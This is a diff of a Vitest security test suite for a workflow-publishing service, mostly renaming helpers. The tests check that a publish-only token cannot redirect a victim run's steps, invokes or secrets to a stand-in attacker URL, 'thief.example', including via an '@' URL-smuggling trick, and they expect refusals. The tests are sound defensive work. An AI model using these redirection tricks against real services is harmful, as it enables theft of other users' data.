@@ -1,25 +1,29 @@
 import { expect, test } from "vitest";
-import { at, house } from "../../house.ts";
-import type { House, Reply } from "../../house.ts";
+import { testTime, createTestServer } from "../../testServer.ts";
+import type { TestServer, Reply } from "../../testServer.ts";
 import { endpoint } from "./workflow.ts";
 import type { Headers } from "./workflowPosts.ts";
-import { batch, callHeaders, startHeaders, step, stepHeaders } from "./workflowPosts.ts";
+import { sendBatch, callHeaders, startHeaders, step, stepHeaders } from "./workflowPosts.ts";
 
 // A token that may publish and not read knows the id of a run, and tries to have what the run holds sent to a URL of its own.
 
 const own = "https://thief.example/x";
 const secret = "s3cret";
 
-type Thief = House & { post(url: string, headers: Headers, body?: string, token?: string): Promise<Reply>; token: string; both: string };
+type Thief = TestServer & {
+  post(url: string, headers: Headers, body?: string, token?: string): Promise<Reply>;
+  token: string;
+  both: string;
+};
 
 async function thief(): Promise<Thief> {
-  const home = await house();
+  const home = await createTestServer();
   const tokenWith = async (verbs: string[]): Promise<string> =>
     (await home.ask("POST", "/v2/tokens", { body: JSON.stringify({ verbs }) })).body.token;
   const [token, both] = [await tokenWith(["publish"]), await tokenWith(["publish", "read"])];
   const headers = startHeaders("victim", { "upstash-forward-authorization": `Bearer ${secret}` });
-  await batch(home, [{ headers, body: `payload ${secret}` }]);
-  await batch(home, [{ headers: stepHeaders("victim"), body: step({ out: secret }) }]);
+  await sendBatch(home, [{ headers, body: `payload ${secret}` }]);
+  await sendBatch(home, [{ headers: stepHeaders("victim"), body: step({ out: secret }) }]);
   home.deliveries.splice(0);
   const post: Thief["post"] = (url, headers, body = "", as = token) => home.ask("POST", `/v2/publish/${url}`, { headers, body, token: as });
   return { ...home, post, token, both };
@@ -35,8 +39,8 @@ const refused = {
 };
 
 /** Nothing of the run has gone, or will go, to the thief. */
-function expectNothingStolen({ deliveries, memory }: House): void {
-  const stored = [...memory.tables.envelopes.values()].filter(({ url }) => url.startsWith(own));
+function expectNothingStolen({ deliveries, memory }: TestServer): void {
+  const stored = [...memory.tables.storedMessages.values()].filter(({ url }) => url.startsWith(own));
   const sent = deliveries.filter(({ message }) => message.url.startsWith(own));
   for (const { body, headers } of [...stored, ...sent.map(({ message }) => message)])
     expect(Buffer.from(body).toString() + JSON.stringify(headers)).not.toMatch(new RegExp(`${secret}|${btoa(secret).slice(0, 6)}`));
@@ -46,7 +50,7 @@ test("a step posted to another URL", async () => {
   const home = await thief();
   const body = step({ stepId: 2 });
   expect(await home.post(own, stepHeaders("victim"), body)).toMatchObject(refused);
-  expect(await batch(home, [{ destination: own, headers: stepHeaders("victim"), body }], home.token)).toMatchObject({ status: 403 });
+  expect(await sendBatch(home, [{ destination: own, headers: stepHeaders("victim"), body }], home.token)).toMatchObject({ status: 403 });
   expect(await home.post(`${endpoint}@thief.example/x`, stepHeaders("victim"), body)).toMatchObject({ status: 403 });
   expect(await home.post(`${endpoint}?other`, stepHeaders("victim"), body)).toMatchObject({ status: 403 });
   expect(home.deliveries).toEqual([]);
@@ -93,7 +97,7 @@ test("a run that is invoked, whose end is told elsewhere", async () => {
   const home = await thief();
   const invoke = (workflowUrl: string) =>
     JSON.stringify({
-      ...{ body: "", headers: {}, workflowRunId: "victim", workflowRunCreatedAt: at, workflowUrl },
+      ...{ body: "", headers: {}, workflowRunId: "victim", workflowRunCreatedAt: testTime, workflowUrl },
       step: { stepId: 2, stepName: "i", stepType: "Invoke", concurrent: 1 },
     });
   const headers = startHeaders("child", { "upstash-workflow-url": own, "upstash-workflow-invoke": "true" });
@@ -131,6 +135,6 @@ test("an event tells which runs wait for it only to those who may read", async (
   expect(told).toEqual([
     [{ ...blind, workflowRunId: "" }],
     [{ ...blind, workflowRunId: "victim" }],
-    [expect.objectContaining({ url: endpoint, workflowRunId: "victim", workflowCreatedAt: at })],
+    [expect.objectContaining({ url: endpoint, workflowRunId: "victim", workflowCreatedAt: testTime })],
   ]);
 });
